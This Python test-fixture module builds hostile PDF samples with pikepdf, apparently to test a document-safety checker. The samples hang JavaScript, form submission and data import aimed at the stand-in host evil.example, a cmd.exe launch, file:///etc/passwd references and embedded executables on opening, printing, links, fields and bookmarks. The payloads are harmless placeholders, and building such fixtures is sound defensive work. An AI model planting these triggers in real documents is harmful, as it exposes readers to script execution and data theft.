"""Hostile files that do something when they are opened, read or printed, or bring others along."""

import random
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from tests.documents.hostile.flaws import ANY, INSIDE, LAUNCH, SCRIPT, Made, archive, lay, pages
from tests.documents.making import plain, saved

Change = Callable[[Pdf, Object], None]


def _places() -> dict[str, Change]:
    """Where an act can hang."""

    def at_opening(pdf: Pdf, act: Object) -> None:
        pdf.Root.OpenAction = act

    def at_printing(pdf: Pdf, act: Object) -> None:
        pdf.Root.AA = Dictionary(WP=act)

    def at_turning(pdf: Pdf, act: Object) -> None:
        pdf.pages[0].obj.AA = Dictionary(O=act)

    def at_a_link(pdf: Pdf, act: Object) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    def at_a_direct_link(pdf: Pdf, act: Object) -> None:
        pdf.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)]
        )

    def at_a_field(pdf: Pdf, act: Object) -> None:
        field = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("a"),
            Rect=Array([0, 0, 9, 9]),
            AA=Dictionary(K=act),
        )
        field = pdf.make_indirect(field)
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    def at_a_bookmark(pdf: Pdf, act: Object) -> None:
        mark = pdf.make_indirect(Dictionary(Title=String("a"), A=act))
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=mark, Last=mark, Count=1))

    def behind_another(pdf: Pdf, act: Object) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([]), Next=Array([act]))

    return {
        "at opening": at_opening,
        "at printing": at_printing,
        "at turning a page": at_turning,
        "at a link": at_a_link,
        "at a direct link": at_a_direct_link,
        "at a field": at_a_field,
        "at a bookmark": at_a_bookmark,
        "behind another": behind_another,
    }


def acts() -> Made:
    evil = String("https://evil.example/")
    acts = {
        "script": (Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")), SCRIPT),
        "script without its name": (Dictionary(JS=String("app.alert(1)")), SCRIPT),
        "sending a form": (Dictionary(S=Name.SubmitForm, F=evil), SCRIPT),
        "taking values in": (Dictionary(S=Name.ImportData, F=evil), SCRIPT),
        "playing": (Dictionary(S=Name.Rendition, OP=0), SCRIPT),
        "script as an address": (
            Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
            SCRIPT,
        ),
        "file as an address": (Dictionary(S=Name.URI, URI=String("file:///etc/passwd")), SCRIPT),
        "words as an address": (
            Dictionary(S=Name.URI, URI=String("DATA:text/html,hello")),
            SCRIPT,
        ),
        "program": (Dictionary(S=Name.Launch, F=String("cmd.exe")), LAUNCH),
        "another file": (
            Dictionary(S=Name.GoToR, F=String("//evil.example/a"), D=Array([0])),
            LAUNCH,
        ),
        "a file inside": (Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C)), LAUNCH),
        "a thread elsewhere": (Dictionary(S=Name.Thread, F=String("a.pdf"), D=0), LAUNCH),
    }
    for act_name, (act, flaws) in acts.items():
        for place, hang in _places().items():
            with pikepdf.new() as pdf:
                pdf.add_blank_page()
                hang(pdf, pdf.copy_foreign(act) if act.is_indirect else act)
                yield f"act: {act_name} {place}", saved(pdf), flaws
    for place, hang in _places().items():
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            hang(pdf, Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
            streams = pikepdf.ObjectStreamMode.generate
            yield f"act: packed script {place}", saved(pdf, object_stream_mode=streams), SCRIPT


def embedded() -> Made:
    for name, payload in {
        "payload.exe": b"MZ",
        "a.pdf": plain(),
        "a.docm": archive("vba"),
        "a.txt": b"words",
        "invoice.xml": b"<a/>",
    }.items():
        with pages(1) as pdf:
            pdf.attachments[name] = payload
            yield f"embedded: {name}", saved(pdf), INSIDE
            streams = pikepdf.ObjectStreamMode.generate
            yield f"embedded, packed: {name}", saved(pdf, object_stream_mode=streams), INSIDE
    for kind in ("FileAttachment", "RichMedia", "Movie", "Sound", "Screen", "3D"):
        with pages(1) as pdf:
            pinned = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]))
            pdf.pages[0].obj.Annots = Array([pdf.make_indirect(pinned)])
            yield f"embedded: {kind} on a page", saved(pdf), INSIDE
    with pages(1) as pdf:
        pdf.Root.Collection = Dictionary(Type=Name.Collection)
        yield "embedded: a portfolio", saved(pdf), INSIDE
    for name, entry in {"stream": None, "words": String("<xdp/>")}.items():
        with pages(1) as pdf:
            form = pdf.make_stream(b"<xdp/>") if entry is None else entry
            pdf.Root.AcroForm = Dictionary(XFA=form, Fields=Array([]))
            yield f"embedded: a form of scripts as {name}", saved(pdf), SCRIPT
    with pages(1) as pdf:
        picture = pdf.make_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=picture))
        yield "embedded: postscript", saved(pdf), SCRIPT


def outside() -> Made:
    with pages(1) as pdf:
        stream = pdf.make_stream(b"", F=Dictionary(Type=Name.Filespec, F=String("/etc/passwd")))
        pdf.pages[0].obj.Contents = stream
        yield "outside: contents in another file", saved(pdf), LAUNCH
    with pages(1) as pdf:
        stream = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form)
        stream.Ref = Dictionary(F=String("//evil.example/a.pdf"), Page=0)
        lay(pdf, stream, "picture")
        yield "outside: a page of another file", saved(pdf), LAUNCH
    with pages(1) as pdf:
        stream = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image)
        stream.OPI = Dictionary({"/2.0": Dictionary(F=String("a.tif"))})
        lay(pdf, stream, "picture")
        yield "outside: a picture to be fetched", saved(pdf), LAUNCH
    for name, spec in {
        "file": Dictionary(Type=Name.Filespec, F=String("//evil.example/a")),
        "address": Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example")),
    }.items():
        with pages(1) as pdf:
            pdf.Root.Elsewhere = pdf.make_indirect(spec)
            yield f"outside: a {name} named", saved(pdf), LAUNCH


def numbers() -> Made:
    """A script whose file is damaged in many ways: readers differ in how they mend it."""
    chance = random.Random(4)
    scripted = next(each for name, each, _ in acts() if name == "act: script at opening")
    for number in range(40):
        turned = bytearray(scripted)
        for _ in range(3 + number):
            at = chance.randrange(9, len(turned))
            turned[at] = chance.randrange(256)
        if b"/JS" in turned or b"/JavaScript" in turned:
            yield f"turned: {number}", bytes(turned), ANY
